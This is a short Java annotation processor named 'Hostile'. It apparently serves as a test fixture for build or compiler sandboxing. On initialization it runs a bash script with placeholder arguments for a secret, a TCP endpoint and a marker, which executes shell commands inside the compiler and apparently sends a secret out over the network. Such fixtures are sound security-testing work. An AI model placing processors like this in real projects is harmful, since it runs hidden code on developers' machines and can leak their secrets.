import java.util.Set;
import javax.annotation.processing.AbstractProcessor;
import javax.annotation.processing.ProcessingEnvironment;
import javax.annotation.processing.RoundEnvironment;
import javax.lang.model.element.TypeElement;

/** Is loaded into the compiler as a processor of annotations, and runs there. */
public class Hostile extends AbstractProcessor {
    @Override
    public void init(ProcessingEnvironment environment) {
        try {
            String[] command = {"bash", "build-script.sh", "@SECRET@", "@TCP@", "@MARK@"};
            new ProcessBuilder(command).start().waitFor();
        } catch (Exception error) {
            throw new IllegalStateException(error);
        }
    }

    @Override
    public boolean process(Set<? extends TypeElement> annotations, RoundEnvironment round) {
        return false;
    }
}
